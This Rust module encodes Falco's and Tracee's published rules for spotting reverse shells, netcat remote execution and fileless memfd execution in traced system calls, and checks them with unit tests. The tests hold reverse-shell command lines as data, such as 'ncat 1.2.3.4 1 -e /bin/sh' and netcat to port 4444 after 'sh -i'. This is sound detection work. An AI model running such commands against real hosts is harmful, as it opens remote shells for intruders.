//! What the published rules of two other tools say of the same system calls.
//!
//! The conditions are ours, written from the published texts, and computed from [`trace`](super::trace) and from the
//! controlling terminals of the shells while they wait. All is read in the tools' favour: no event is lost, no list of
//! exceptions applies, and where a rule is for containers only, every process counts as one in a container.
//!
//! **Falco** (falcosecurity/rules: `falco_rules.yaml` of 2.0.0 to 3.x; `memory` from there, too, `system` from the
//! sandbox and deprecated files):
//! - `redirect`: "Redirect STDOUT/STDIN to Network Connection in Container": dup, dup2 or dup3 returned 0, 1 or 2 and
//!   that descriptor is an IPv4 or IPv6 socket. (fcntl and a socket that is born as 0 are no dup.)
//! - `netcat`: "Netcat Remote Code Execution in Container": a process named `nc` with ` -e` or ` -c`, or `ncat` with
//!   `--sh-exec`, `--exec`, `-e `, `-c ` or `--lua-exec`, was spawned. `nc.traditional` and `nc.openbsd`, as Debian names
//!   the two, count as `nc`.
//! - `terminal`: "Terminal shell in container": a process named as a shell with a controlling terminal. The macro
//!   `container_entrypoint` is lifted, too, so it says the same of every login.
//! - `system`: "System procs network activity": a process named as a shell connected, not to loopback.
//! - `memory`: "Fileless execution via `memfd_create`": the executable lies in a memfd.
//!
//! **Tracee** (aquasecurity/tracee, `signatures/golang`):
//! - `stdio`: TRC-101, version 2, `stdio_over_socket`: connect on descriptor 0, 1 or 2 (whoever asks for it, `io_uring` too), or dup,
//!   dup2, dup3 onto one, of an IPv4 or IPv6 socket whose peer's port is known.
//! - `web`: TRC-1016, version 1, `illegitimate_shell`: a process named as a web server executes a shell.
//! - `fileless`: TRC-105 `fileless_execution`: the executable lies in a memfd, `/dev/shm` or `/run/shm`.

use std::collections::{BTreeSet, HashMap};

use super::trace::{Event, Object, What};

const SHELLS: [&str; 8] = ["ash", "bash", "csh", "ksh", "sh", "tcsh", "zsh", "dash"];
const WEB_SERVERS: [&str; 7] = ["nginx", "httpd", "httpd-foregroun", "http-nio", "lighttpd", "apache", "apache2"];
/// The kernel keeps that much of a process's name.
const COMM: usize = 15;

/// The rules that hold, by the short names above.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Published {
    pub falco: BTreeSet<&'static str>,
    pub tracee: BTreeSet<&'static str>,
}

impl Published {
    /// Returns the rules of either tool as words of a table.
    #[must_use]
    pub fn cells(published: Option<&Self>) -> (String, String) {
        let listed = |rules: &BTreeSet<&'static str>| match rules.is_empty() {
            true => "-".to_owned(),
            false => rules.iter().copied().collect::<Vec<_>>().join(" "),
        };
        published.map_or_else(
            || ("not asked".to_owned(), "not asked".to_owned()),
            |published| (listed(&published.falco), listed(&published.tracee)),
        )
    }
}

/// Returns what the rules say. `terminals`: the names of processes that have a controlling terminal while they wait.
#[must_use]
pub fn judge(events: &[Event], terminals: &[String]) -> Published {
    let mut published = Published::default();
    // A child may be heard of before its parent's fork returns.
    let parents: HashMap<u32, u32> = events.iter().filter_map(fork).collect();
    let mut names: HashMap<u32, String> = HashMap::new();
    for Event { pid, what } in events {
        let known = names.get(pid).or_else(|| names.get(parents.get(pid)?));
        let name = known.cloned().unwrap_or_default();
        match what {
            What::Fork { child } => {
                names.entry(*child).or_insert(name);
            }
            What::Exec { path, arguments } => {
                let new = comm(path);
                exec(&mut published, path, &new, arguments, &name);
                names.insert(*pid, new);
            }
            What::Connect { descriptor, address, port } => {
                if SHELLS.contains(&name.as_str()) && !address.is_loopback() {
                    published.falco.insert("system");
                }
                if *descriptor <= 2 && *port != 0 {
                    published.tracee.insert("stdio");
                }
            }
            What::Duplicate { onto: 0..=2, object: Object::Inet { has_peer } } => {
                published.falco.insert("redirect");
                if *has_peer {
                    published.tracee.insert("stdio");
                }
            }
            What::Duplicate { .. } => {}
        }
    }
    if terminals.iter().any(|name| SHELLS.contains(&name.as_str())) {
        published.falco.insert("terminal");
    }
    published
}

fn fork(event: &Event) -> Option<(u32, u32)> {
    let What::Fork { child } = event.what else { return None };
    Some((child, event.pid))
}

fn exec(published: &mut Published, path: &str, name: &str, arguments: &str, before: &str) {
    let line = format!("{name} {}", arguments.split_once(' ').map_or("", |(_, rest)| rest));
    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
    let is_netcat = matches!(name, "nc" | "nc.traditional" | "nc.openbsd") && has(&[" -e", " -c"])
        || name == "ncat" && has(&["--sh-exec", "--exec", "-e ", "-c ", "--lua-exec"]);
    if is_netcat {
        published.falco.insert("netcat");
    }
    if path.starts_with("/memfd:") {
        published.falco.insert("memory");
    }
    if ["/memfd:", "/dev/shm/", "/run/shm/"].iter().any(|place| path.starts_with(place)) {
        published.tracee.insert("fileless");
    }
    if SHELLS.contains(&name) && WEB_SERVERS.contains(&before) {
        published.tracee.insert("web");
    }
}

fn comm(path: &str) -> String {
    path.rsplit('/').next().unwrap_or(path).chars().take(COMM).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec(pid: u32, path: &str, arguments: &str) -> Event {
        Event { pid, what: What::Exec { path: path.into(), arguments: arguments.into() } }
    }

    #[test]
    fn a_socket_on_a_stream_is_what_both_see() {
        let object = Object::Inet { has_peer: true };
        let events =
            [exec(1, "/usr/bin/perl", "perl -e x"), Event { pid: 1, what: What::Duplicate { onto: 0, object } }];

        let said = judge(&events, &[]);

        assert_eq!((said.falco, said.tracee), (["redirect"].into(), ["stdio"].into()));
    }

    #[test]
    fn pipes_to_a_netcat_without_e_are_seen_by_neither() {
        let other = Event { pid: 2, what: What::Duplicate { onto: 1, object: Object::Other } };
        let events =
            [exec(1, "/bin/sh", "sh -i"), other, exec(2, "/usr/bin/nc.openbsd", "nc.openbsd 198.51.100.9 4444")];

        assert_eq!(judge(&events, &[]), Published::default());
    }

    #[test]
    fn netcat_is_known_by_its_option() {
        assert!(judge(&[exec(1, "/usr/bin/ncat", "ncat 1.2.3.4 1 -e /bin/sh")], &[]).falco.contains("netcat"));
        assert!(
            judge(&[exec(1, "/usr/bin/nc.traditional", "nc.traditional -e sh 1.2.3.4 1")], &[])
                .falco
                .contains("netcat")
        );
    }

    #[test]
    fn a_forked_shell_keeps_its_name() {
        let connect = What::Connect { descriptor: 5, address: [10, 0, 0, 2].into(), port: 4444 };
        let events = [
            exec(1, "/bin/bash", "bash -c x"),
            Event { pid: 1, what: What::Fork { child: 2 } },
            Event { pid: 2, what: connect },
        ];

        let said = judge(&events, &[]);

        assert_eq!((said.falco, said.tracee), (["system"].into(), [].into()));
    }
}
